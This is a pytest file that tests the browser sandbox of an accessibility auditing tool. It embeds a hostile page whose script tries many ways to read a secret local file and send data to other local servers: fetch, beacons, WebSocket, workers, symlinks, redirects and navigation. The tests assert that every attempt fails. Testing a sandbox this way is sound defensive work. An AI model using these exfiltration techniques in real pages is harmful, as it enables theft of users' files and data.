"""The browser sandbox of ``check --browser``: an audited page is an attacker. Its attempts to
read local files, reach other ports on 127.0.0.1 or other hosts, or put another document into
the report all fail (the servers below record every request they get), and what it was
allowed to do (the canary) shows the report would have carried a leak."""

from __future__ import annotations

import secrets
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from broadsheet.browser.sandbox import PAGE_ORIGIN
from broadsheet.reporters import FORMATS, get_writer

CANARY = "CANARY-WRITTEN-BY-THE-PAGE"


class Recorder(ThreadingHTTPServer):
    """A server that answers everything with a small page and records every request."""

    daemon_threads = True

    def __init__(self, host: str, body: bytes = b"<p>served</p>") -> None:
        self.hits: list[str] = []
        self.body = body
        super().__init__((host, 0), RecordingHandler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def origin(self) -> str:
        host, port = self.server_address[:2]
        return f"http://{host!s}:{port}"


class RecordingHandler(BaseHTTPRequestHandler):
    server: Recorder

    def _answer(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode("latin-1") if length else ""
        self.server.hits.append(f"{self.command} {self.path} {body}".strip())
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(self.server.body)))
        self.end_headers()
        self.wfile.write(self.server.body)

    do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = _answer

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def servers() -> Iterator[tuple[Recorder, Recorder]]:
    """Another port on 127.0.0.1, and another host (127.0.0.2, also this machine)."""
    port, host = Recorder("127.0.0.1"), Recorder("127.0.0.2")
    yield port, host
    for server in (port, host):
        server.shutdown()
        server.server_close()


def hostile_page(secret_file: Path, other_port: str, other_host: str) -> str:
    """Every way we know for a page to read a file or reach another server; anything it
    reads is written into an element axe-core fails (an image without alt), so it would be
    in the report's snippets."""
    return f"""<!doctype html><html lang="en"><head><title>Hostile</title>
<link rel="stylesheet" href="leak.css"></head>
<body><main><h1>Hostile page</h1><p>Text.</p></main>
<iframe id="frame" src="{secret_file.as_uri()}" title="secret"></iframe>
<script>
const leak = (how, text) => document.body.insertAdjacentHTML('beforeend',
  '<img src="data:," data-how="' + how + '" data-text="' + String(text).slice(0, 200) + '">');
leak('canary', '{CANARY}');
const tryFetch = (how, url, init) => fetch(url, init).then((r) => r.text())
  .then((t) => leak(how, t), () => {{}});
tryFetch('file', '{secret_file.as_uri()}');
tryFetch('folder', 'secret.txt');
tryFetch('up', '../private/secret.txt');
tryFetch('port-get', '{other_port}/fetch-get');
tryFetch('port-post', '{other_port}/fetch-post', {{method: 'POST', body: 'posted'}});
tryFetch('host', '{other_host}/other-host', {{method: 'POST', body: 'posted'}});
new Image().src = '{other_port}/image-beacon';
try {{ navigator.sendBeacon('{other_port}/send-beacon', 'beacon'); }} catch (e) {{}}
try {{ new WebSocket('{other_port.replace("http", "ws")}/socket'); }} catch (e) {{}}
try {{ new Worker(URL.createObjectURL(new Blob(
  ["fetch('{other_port}/worker').catch(() => 0)"], {{type: 'text/javascript'}}))); }}
catch (e) {{}}
try {{ location.href = '{secret_file.as_uri()}'; }} catch (e) {{}}
try {{ navigator.serviceWorker.register('sw.js').catch(() => 0); }} catch (e) {{}}
const xhr = new XMLHttpRequest();
try {{ xhr.open('GET', '{secret_file.as_uri()}', false); xhr.send();
  leak('xhr', xhr.responseText); }} catch (e) {{}}
window.addEventListener('load', () => {{
  try {{ leak('frame', document.getElementById('frame').contentDocument.body.textContent); }}
  catch (e) {{}}
  for (const sheet of document.styleSheets) {{
    try {{ for (const rule of sheet.cssRules) leak('css', rule.cssText); }} catch (e) {{}}
  }}
  setTimeout(() => {{ location.href = '{other_port}/navigate'; }}, 0);
}});
</script></body></html>"""


@pytest.fixture
def site(tmp_path: Path, servers: tuple[Recorder, Recorder]) -> tuple[Path, str]:
    """A hostile page in ``site/``; the secret in ``private/`` beside it, and in the page's
    own folder as a name no page may load, and behind a symlink that looks like a style
    sheet."""
    secret = f"SECRET-{secrets.token_hex(8)}"
    private = tmp_path / "private"
    private.mkdir()
    (private / "secret.txt").write_text(secret)
    folder = tmp_path / "site"
    folder.mkdir()
    (folder / "secret.txt").write_text(secret)
    (folder / "leak.css").symlink_to(private / "secret.txt")
    page = folder / "hostile.html"
    page.write_text(hostile_page(private / "secret.txt", *(s.origin for s in servers)))
    return page, secret


def reports_text(report: Any) -> str:
    return "\n".join(get_writer(name)([report]) for name in FORMATS)


def test_a_hostile_file_reads_nothing_and_reaches_no_other_server(
        auditor: Any, site: tuple[Path, str], servers: tuple[Recorder, Recorder]) -> None:
    from broadsheet.browser import AuditOptions

    page, secret = site
    audit = auditor.audit(page, options=AuditOptions(timeout=10))
    text = reports_text(audit.report())
    assert CANARY in text, "what the page writes reaches the report's snippets"
    assert secret not in text
    assert [server.hits for server in servers] == [[], []]
    assert "tried to go to" in text  # the late navigation was refused and reported


def test_a_hostile_url_reaches_only_its_own_origin(
        auditor: Any, site: tuple[Path, str], servers: tuple[Recorder, Recorder]) -> None:
    from broadsheet.browser import AuditOptions

    page, secret = site
    own = Recorder("127.0.0.1", page.read_bytes())
    try:
        audit = auditor.audit(f"{own.origin}/hostile.html", options=AuditOptions(timeout=10))
        text = reports_text(audit.report())
        assert CANARY in text
        assert secret not in text
        assert [server.hits for server in servers] == [[], []]
        assert "GET /hostile.html" in own.hits  # its own origin answers
        assert "POST /fetch-post posted" not in own.hits
    finally:
        own.shutdown()
        own.server_close()


def test_an_allowed_host_is_reached_and_only_it(
        auditor: Any, site: tuple[Path, str], servers: tuple[Recorder, Recorder]) -> None:
    """The control: the same page with the other host allowed reaches it, so the test above
    would see a request that got out."""
    from broadsheet.browser import AuditOptions

    page, _ = site
    other_port, other_host = servers
    auditor.audit(page, options=AuditOptions(timeout=10, allow_hosts=("127.0.0.2",)))
    assert "POST /other-host posted" in other_host.hits
    assert other_port.hits == []


@pytest.mark.parametrize("how", [
    "location.href = '{url}'",
    "document.head.insertAdjacentHTML('beforeend', "
    "'<meta http-equiv=\"refresh\" content=\"0; url={url}\">')",
    "window.open('{url}')",
    "document.body.insertAdjacentHTML('beforeend', "
    "'<form action=\"{url}\" method=\"post\"><input name=q value=x></form>');"
    " document.forms[0].submit()",
])
def test_navigating_away_is_refused_and_reported(
        auditor: Any, servers: tuple[Recorder, Recorder], how: str) -> None:
    from broadsheet.browser import AuditOptions

    other_port, _ = servers
    servers[0].body = b"<title>Other</title><p>OTHER-DOCUMENT</p><img src=x>"
    script = how.format(url=f"{other_port.origin}/away")
    html = (f'<!doctype html><html lang="en"><title>Mine</title><main><h1>Mine</h1></main>'
            f'<script>setTimeout(() => {{ {script} }}, 0)</script></html>')
    audit = auditor.audit("page.html", html=html, options=AuditOptions(timeout=10))
    text = reports_text(audit.report())
    assert "OTHER-DOCUMENT" not in text
    assert other_port.hits == []
    behaviour = [f.message for r in audit.results for f in r.findings
                 if f.rule == "audit-page-behaviour"]
    assert behaviour
    assert "tried to go to" in behaviour[0] or "opened a window" in behaviour[0]


def test_a_window_is_reported_before_playwright_reports_its_page(
        auditor: Any, servers: tuple[Recorder, Recorder], monkeypatch: Any) -> None:
    """On a loaded machine Playwright may report the page of a window only after the audit
    ended (its renderer starts late): the window is reported all the same, from the moment
    the page asked for it."""
    from broadsheet.browser import AuditOptions
    from broadsheet.browser.sandbox import Sandbox

    monkeypatch.setattr(Sandbox, "_popup", lambda self, popup: None)  # the event comes late
    html = (f'<!doctype html><html lang="en"><title>Mine</title><main><h1>Mine</h1></main>'
            f"<script>setTimeout(() => window.open('{servers[0].origin}/away'), 0)</script>")
    audit = auditor.audit("page.html", html=html, options=AuditOptions(timeout=10))
    behaviour = [f.message for r in audit.results for f in r.findings
                 if f.rule == "audit-page-behaviour"]
    assert behaviour == ["opened a window (closed)"]
    assert servers[0].hits == []


@pytest.mark.parametrize("url", [
    "about:blank",
    "URL.createObjectURL(new Blob(['<p>OTHER-DOCUMENT</p><img src=x>'], {type: 'text/html'}))",
])
def test_a_document_that_replaces_itself_is_an_audit_error(auditor: Any, url: str) -> None:
    """Navigations that never reach the network cannot be refused; they are noticed, and the
    new document is not audited. (A ``javascript:`` URL is left out: Chromium writes its
    result into the same document, as ``document.write`` would: the page's own content.)"""
    from broadsheet.browser import AuditOptions

    target = url if url.startswith("URL.") else repr(url)
    html = ('<!doctype html><html lang="en"><title>Mine</title><main><h1>Mine</h1></main>'
            f'<script>onload = () => setTimeout(() => {{ location.href = {target}; }}, 0)'
            '</script></html>')
    audit = auditor.audit("page.html", html=html, options=AuditOptions(timeout=10))
    errors = [f.message for r in audit.results for f in r.findings if f.rule == "audit-error"]
    assert errors
    assert "replaced itself with another document" in errors[0]
    assert "OTHER-DOCUMENT" not in reports_text(audit.report())
    assert [r.rule.id for r in audit.results] == ["audit-error"]


@pytest.mark.parametrize(("value", "host"), [
    ("cdn.example.org", "cdn.example.org"), ("CDN.Example.org:8443", "cdn.example.org:8443"),
    ("127.0.0.2", "127.0.0.2"), ("[::1]:9000", "::1:9000"),
])
def test_allow_host_takes_a_host_and_an_optional_port(value: str, host: str) -> None:
    from broadsheet.browser.sandbox import Sandbox, parse_host

    assert parse_host(value) == host
    sandbox = Sandbox.for_markup("", allow_hosts=[value])
    port = host.rsplit(":", 1)[1] if value.endswith(("8443", "9000")) else "1234"
    name = value.rsplit(":", 1)[0] if port != "1234" else value
    assert sandbox.allowed(f"https://{name.lower()}:{port}/x")
    assert not sandbox.allowed(f"https://{name.lower()}.attacker.example/x")
    assert not sandbox.allowed(f"file:///{name}/x")


@pytest.mark.parametrize("value", ["https://cdn.example.org/", "cdn.example.org/x", "a@b",
                                   "host:notaport", "host:", ""])
def test_allow_host_refuses_urls_and_junk_with_exit_2(
        value: str, capsys: pytest.CaptureFixture[str]) -> None:
    from broadsheet.cli import main

    with pytest.raises(SystemExit) as stop:
        main(["check", "--browser", "--allow-host", value, "page.html"])
    assert stop.value.code == 2
    assert "not a host" in capsys.readouterr().err


def test_a_port_given_allows_only_that_port() -> None:
    from broadsheet.browser.sandbox import Sandbox

    sandbox = Sandbox.for_markup("", allow_hosts=["127.0.0.1:8080"])
    assert sandbox.allowed("http://127.0.0.1:8080/beacon")
    assert not sandbox.allowed("http://127.0.0.1:8081/beacon")
    assert not sandbox.allowed("http://127.0.0.1/beacon")
    assert not sandbox.allowed(f"{PAGE_ORIGIN}/page.html")  # served, never fetched


def test_a_url_page_may_reach_its_own_origin_only() -> None:
    from broadsheet.browser.sandbox import Sandbox

    sandbox = Sandbox.for_url("http://127.0.0.1:8000/page.html")
    assert sandbox.allowed("http://127.0.0.1:8000/style.css")
    assert not sandbox.allowed("http://127.0.0.1:8001/style.css")
    assert not sandbox.allowed("https://127.0.0.1:8000/style.css")
    assert not sandbox.allowed("http://localhost:8000/style.css")


def test_a_pages_files_come_from_its_folder_or_the_root_given(auditor: Any,
                                                              tmp_path: Path) -> None:
    """A site's page in a subfolder uses ``../style.css``: from the page's own folder it is
    not served and the report says so; with the site as root the style sheet applies (its
    pale heading fails colour contrast)."""
    from broadsheet.browser import AuditOptions

    (tmp_path / "style.css").write_text("h1 { color: #eee; background: #fff; }")
    (tmp_path / "guide").mkdir()
    page = tmp_path / "guide" / "page.html"
    page.write_text('<!doctype html><html lang="en"><title>T</title>'
                    '<link rel="stylesheet" href="../style.css"><main><h1>Pale</h1></main>')
    options = AuditOptions(timeout=10, checks=False)

    def contrast_and_notes(**root: Any) -> tuple[list[str], list[str]]:
        audit = auditor.audit(page, options=options, **root)
        found = [f for r in audit.results for f in r.findings]
        return ([f.snippet or "" for f in found if f.rule == "color-contrast"
                 and f.outcome.value == "failed"],
                [f.message for f in found if f.rule == "audit-page-load"])

    contrast, notes = contrast_and_notes()
    assert contrast == []
    assert len(notes) == 1
    assert "style.css" in notes[0]
    assert "--root" in notes[0]
    contrast, notes = contrast_and_notes(root=tmp_path)
    assert contrast == ["<h1>Pale</h1>"]
    assert notes == []


class RedirectHandler(RecordingHandler):
    """Redirects ``/go/URL`` to URL, answers everything else as the recorder does."""

    def _answer(self) -> None:
        if self.path.startswith("/go/"):
            self.server.hits.append(f"{self.command} {self.path}")
            self.send_response(302)
            self.send_header("Location", self.path[len("/go/"):])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        super()._answer()

    do_GET = do_POST = _answer


def test_redirects_are_checked_hop_by_hop(auditor: Any,
                                          servers: tuple[Recorder, Recorder]) -> None:
    """Chromium does not route redirects: a page's own server could bounce its requests to
    another port. Each hop is checked; the page's own redirect is followed on its origin."""
    from broadsheet.browser import AuditOptions

    other_port, _ = servers
    own = Recorder("127.0.0.1")
    own.RequestHandlerClass = RedirectHandler
    try:
        own.body = (f'<!doctype html><html lang="en"><title>Final</title><main><h1>Final</h1>'
                    f'<img alt="" src="/go/{other_port.origin}/bounced-image"></main>'
                    f'<script>fetch("/go/{other_port.origin}/bounced-fetch")</script>'
                    ).encode()
        audit = auditor.audit(f"{own.origin}/go/{own.origin}/final.html",
                              options=AuditOptions(timeout=10, checks=False))
        assert "GET /final.html" in own.hits  # followed on its own origin
        assert [f.message for r in audit.results for f in r.findings
                if f.rule == "audit-page-load"] == []
        refused = auditor.audit(f"{own.origin}/go/{other_port.origin}/elsewhere.html",
                                options=AuditOptions(timeout=10, checks=False))
        messages = [f.message for r in refused.results for f in r.findings]
        assert any("another host" in m and "--allow-host" in m for m in messages)
        assert other_port.hits == []
    finally:
        own.shutdown()
        own.server_close()


class ScriptsHandler(RecordingHandler):
    """``/page.html`` runs ``/small.js`` and ``/big.js``; each writes its name into an image
    without alt (so into the report); ``big.js`` is padded past the size limit set below."""

    def _answer(self) -> None:
        scripts = {"/small.js": b"", "/big.js": b"/*" + b"x" * 5000 + b"*/"}
        if self.path in scripts:
            name = self.path.strip("/").split(".")[0].upper()
            body = (scripts[self.path] + b"document.body.insertAdjacentHTML('beforeend',"
                    b" '<img src=\"data:,\" data-ran=\"RAN-" + name.encode() + b"\">');")
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        super()._answer()

    do_GET = _answer


def test_a_response_larger_than_the_limit_never_reaches_the_page(
        auditor: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """The sandbox fetches the page's own requests itself, reading at most the limit."""
    from broadsheet.browser import AuditOptions, sandbox

    monkeypatch.setattr(sandbox, "MAX_FILE_BYTES", 4000)
    own = Recorder("127.0.0.1", b'<!doctype html><html lang="en"><title>T</title><main>'
                                b'<h1>T</h1></main><script src="/small.js"></script>'
                                b'<script src="/big.js"></script></html>')
    own.RequestHandlerClass = ScriptsHandler
    try:
        audit = auditor.audit(f"{own.origin}/page.html",
                              options=AuditOptions(timeout=10, checks=False))
    finally:
        own.shutdown()
        own.server_close()
    text = reports_text(audit.report())
    assert "RAN-SMALL" in text  # the control: a script under the limit runs
    assert "RAN-BIG" not in text
    [note] = [f for r in audit.results for f in r.findings if f.rule == "audit-page-load"]
    assert note.outcome.value == "cant_tell"
    assert "/big.js" in note.message
    assert "more than the limit of 4,000" in note.message


class SlowHandler(RecordingHandler):
    """Answers ``/slow/N`` after a moment, counting the requests in flight at once."""

    def _answer(self) -> None:
        if not self.path.startswith("/slow/"):
            super()._answer()
            return
        server: Any = self.server
        with server.lock:
            server.now += 1
            server.started += 1
            server.most = max(server.most, server.now)
        time.sleep(0.3)
        with server.lock:
            server.now -= 1
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_GET = _answer


def test_a_page_cannot_open_more_than_a_few_fetches_at_once(auditor: Any) -> None:
    """Each fetch the sandbox makes for a page holds a thread: 60 at once wait their turn."""
    from broadsheet.browser import AuditOptions
    from broadsheet.browser.sandbox import MAX_FETCHES

    own: Any = Recorder("127.0.0.1", b'<!doctype html><html lang="en"><title>T</title><main>'
                                     b'<h1>T</h1></main><script>for (let i = 0; i < 60; i++)'
                                     b' fetch("/slow/" + i);</script></html>')
    own.RequestHandlerClass = SlowHandler
    own.lock, own.now, own.most, own.started = threading.Lock(), 0, 0, 0
    try:
        auditor.audit(f"{own.origin}/page.html", options=AuditOptions(timeout=10, checks=False))
    finally:
        own.shutdown()
        own.server_close()
    # the control: the fetches were asked for (counted as they start: on a loaded machine
    # the audit may end before the eighth of 0.3 s each has answered; a CI run saw 7)
    assert own.started >= MAX_FETCHES
    assert 2 <= own.most <= MAX_FETCHES
